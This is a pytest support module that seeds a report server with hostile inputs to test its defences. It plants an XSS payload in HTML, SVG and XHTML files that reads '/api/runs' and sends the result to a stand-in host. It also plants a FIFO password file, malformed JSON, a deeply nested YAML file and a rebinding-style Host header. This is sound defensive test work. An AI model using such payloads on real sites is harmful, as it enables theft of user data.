"""What more than one test module needs from the old test_report_serve_hostile.py:
tests/integration/test_report_serve_hostile.py, tests/unit/test_report_serve_hostile.py.
"""

from __future__ import annotations

import http.client
import os
from urllib.parse import urlsplit

import pytest

from rackcert.report.build import build_report
from tests.support.plugins.report import start_serve, stop, write_run

SCRIPT = b"<script>fetch('/api/runs').then(r=>r.text()).then(t=>fetch('http://x.test/'+t))</script>"


def plant_spec(run, password_file: str) -> None:
    text = (run.path / "spec.yaml").read_text()
    text = text.replace(
        "password_env: RACKCERT_VCENTER_PASSWORD", f"password_file: {password_file}"
    )
    (run.path / "spec.yaml").write_text(text)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "runs"
    failed = write_run(root, fail={"net.mtu@mn-node1": "1500"})
    build_report(failed, formats=("json", "html"))
    fifo_run = write_run(root)
    os.mkfifo(tmp / "pw.fifo")
    plant_spec(fifo_run, str(tmp / "pw.fifo"))
    word_run = write_run(root)
    (tmp / "word").write_text("FAIL\n")
    plant_spec(word_run, str(tmp / "word"))
    (word_run.path / "report.html").write_bytes(b"<html><body>planted" + SCRIPT + b"</body></html>")
    (word_run.path / "artifacts").mkdir(exist_ok=True)
    (word_run.path / "artifacts" / "evil.html").write_bytes(SCRIPT)
    (word_run.path / "artifacts" / "plot.svg").write_bytes(
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    )
    (word_run.path / "artifacts" / "x.xml").write_bytes(
        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
    )
    meta_list = write_run(root, stages=("plan",))
    (meta_list.path / "meta.json").write_text("[1, 2, 3]")
    stage_number = write_run(root, stages=("plan", "validate"))
    (stage_number.path / "validate.json").write_text("42")
    deep = write_run(root, stages=("plan",))
    (deep.path / "spec.yaml").write_text("a: " + "[" * 3000 + "]" * 3000 + "\n")
    proc, base = start_serve(root)
    yield {
        "base": base,
        "root": root,
        "failed": failed,
        "word": word_run,
        "fifo": fifo_run,
        "bad": [meta_list, stage_number],
        "deep": deep,
    }
    stop(proc)


def get(base: str, path: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
    """GET with an explicit Host header, as a browser on a rebinding page would send it."""
    parts = urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        conn.putrequest("GET", path, skip_host=True)
        conn.putheader("Host", host or parts.netloc)
        conn.endheaders()
        resp = conn.getresponse()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    finally:
        conn.close()
